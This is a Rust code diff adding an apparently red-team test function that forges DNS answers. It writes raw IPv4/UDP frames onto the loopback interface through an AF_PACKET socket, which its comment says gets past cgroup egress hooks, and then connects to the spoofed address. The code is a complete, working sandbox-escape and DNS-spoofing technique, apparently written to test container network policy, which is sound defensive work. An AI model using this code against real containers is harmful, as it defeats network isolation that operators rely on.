@@ -709,3 +709,76 @@ fn forge_answer_to_self(resolver: IpAddr, name: &str, forged: IpAddr) -> Result<
     socket.recv(&mut buf).map_err(|_| 26)?;
     Ok(())
 }
+
+/// Red team: with CAP_NET_RAW (which `docker run` grants by default), a
+/// process asks RESOLVER:53 for NAME from 127.0.0.1 (nothing need listen
+/// there: the query is recorded at egress all the same), then writes the
+/// answer (NAME is at FORGED, from RESOLVER port 53) itself as a frame on
+/// `lo` through an AF_PACKET socket, which no cgroup hook sees; the answer
+/// arrives at the querying socket through cgroup ingress. Then connect to
+/// FORGED:PORT.
+pub fn packet_forge(resolver: IpAddr, name: &str, forged: IpAddr, port: u16, client_addr: IpAddr) -> String {
+    use hickory_proto::rr::RecordType;
+    let (IpAddr::V4(resolver4), IpAddr::V4(forged4)) = (resolver, forged) else { return "unsupported".into() };
+    let IpAddr::V4(client4) = client_addr else { return "unsupported".into() };
+    let client = match UdpSocket::bind((client4, 0)) {
+        Ok(s) => s,
+        Err(e) => return format!("bind:{}", errno_name(&e)),
+    };
+    let _ = client.set_read_timeout(Some(TIMEOUT));
+    let client_port = client.local_addr().expect("local").port();
+    let id = 0x5151;
+    let query = super::stream::query(id, name, RecordType::A).to_vec().expect("query");
+    if let Err(e) = client.send_to(&query, (resolver, 53)) {
+        return format!("query:{}", errno_name(&e));
+    }
+    let answer = super::stream::answer(id, name, forged4);
+    // IPv4 + UDP (checksum 0: none) + the answer.
+    let total = 20 + 8 + answer.len();
+    let mut packet = vec![0u8; total];
+    packet[0] = 0x45;
+    packet[2..4].copy_from_slice(&(total as u16).to_be_bytes());
+    packet[6] = 0x40;
+    packet[8] = 64;
+    packet[9] = libc::IPPROTO_UDP as u8;
+    packet[12..16].copy_from_slice(&resolver4.octets());
+    packet[16..20].copy_from_slice(&client4.octets());
+    let sum = checksum(&packet[..20]);
+    packet[10..12].copy_from_slice(&sum.to_be_bytes());
+    packet[20..22].copy_from_slice(&53u16.to_be_bytes());
+    packet[22..24].copy_from_slice(&client_port.to_be_bytes());
+    packet[24..26].copy_from_slice(&((8 + answer.len()) as u16).to_be_bytes());
+    packet[28..].copy_from_slice(&answer);
+    let fd = match socket(libc::AF_PACKET, libc::SOCK_DGRAM, (libc::ETH_P_IP as u16).to_be() as i32) {
+        Ok(fd) => fd,
+        Err(e) => return format!("packet-socket:{e}"),
+    };
+    // SAFETY: a NUL-terminated name.
+    let ifindex = unsafe { libc::if_nametoindex(c"lo".as_ptr()) };
+    // SAFETY: all-zero is a valid sockaddr_ll.
+    let mut sll: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
+    sll.sll_family = libc::AF_PACKET as u16;
+    sll.sll_protocol = (libc::ETH_P_IP as u16).to_be();
+    sll.sll_ifindex = ifindex as i32;
+    sll.sll_halen = 6;
+    // SAFETY: valid fd, buffer and address.
+    let sent = unsafe {
+        libc::sendto(
+            fd.as_raw_fd(),
+            packet.as_ptr() as *const _,
+            packet.len(),
+            0,
+            &sll as *const _ as *const libc::sockaddr,
+            size_of::<libc::sockaddr_ll>() as u32,
+        )
+    };
+    if sent < 0 {
+        return format!("packet-send:{}", last_error());
+    }
+    let mut buf = [0u8; 512];
+    let delivered = match client.recv_from(&mut buf) {
+        Ok((_, from)) => format!("forged answer delivered from {from}"),
+        Err(e) => format!("no answer:{}", errno_name(&e)),
+    };
+    format!("{delivered}, then connect {}", connect(forged, port))
+}
